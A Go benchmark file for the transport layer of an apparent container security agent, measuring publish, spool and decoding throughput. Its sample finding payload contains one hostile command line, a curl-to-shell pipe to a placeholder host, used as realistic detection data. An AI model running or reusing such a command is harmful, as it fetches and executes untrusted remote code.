package transport

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"
)

// benchPayload is about the size of a real finding document.
var benchPayload = map[string]any{
	"type": "Execution:Runtime/NewBinaryExecuted", "severity": 5,
	"resource": map[string]string{"containerId": strings.Repeat("a", 64), "image": "docker.io/library/busybox:1.36"},
	"process":  map[string]any{"pid": 4242, "exe": "/tmp/x", "cmdline": "sh -c curl http://example.test | sh"},
	"pad":      strings.Repeat("x", 300),
}

// BenchmarkPublish measures end-to-end publish throughput to a real embedded
// JetStream (TLS, file store): async publishes with every ack awaited.
func BenchmarkPublish(b *testing.B) {
	bus := startBus(b, b.TempDir(), -1)
	creds := bus.enroll("bench")
	p, err := NewPublisher(PublisherConfig{Creds: creds, SpoolDir: b.TempDir(), Logger: quietLogger(), MaxPending: 4096})
	if err != nil {
		b.Fatal(err)
	}
	defer p.Close(context.Background())
	for !p.Stats().Connected {
		time.Sleep(time.Millisecond)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if _, err := p.Publish(KindFinding, benchPayload); err != nil {
			b.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if err := p.Flush(ctx); err != nil {
		b.Fatal(err)
	}
	b.StopTimer()
	st := p.Stats()
	if st.Spooled != 0 {
		b.Logf("note: %d messages went through the spool", st.Spooled)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "msgs/s")
}

// BenchmarkSpoolAppend measures the spool's write rate (what the agent can
// absorb while the server is away).
func BenchmarkSpoolAppend(b *testing.B) {
	for _, size := range []int{200, 2000} {
		b.Run(fmt.Sprintf("%dB", size), func(b *testing.B) {
			s, err := OpenSpool(SpoolConfig{Dir: b.TempDir(), MaxBytes: 256 << 20, Logger: quietLogger()})
			if err != nil {
				b.Fatal(err)
			}
			defer s.Close()
			r := rec(KindFinding, 1, size)
			b.SetBytes(int64(len(r.Data)))
			b.ReportAllocs()
			for b.Loop() {
				if err := s.Append(r); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "msgs/s")
		})
	}
}

// BenchmarkDecodeEnvelope measures the strict ingress decoder.
func BenchmarkDecodeEnvelope(b *testing.B) {
	env, _ := NewEnvelope("node-1", KindFinding, benchPayload)
	data, _ := env.Encode()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := DecodeEnvelope(data, 0); err != nil {
			b.Fatal(err)
		}
	}
}
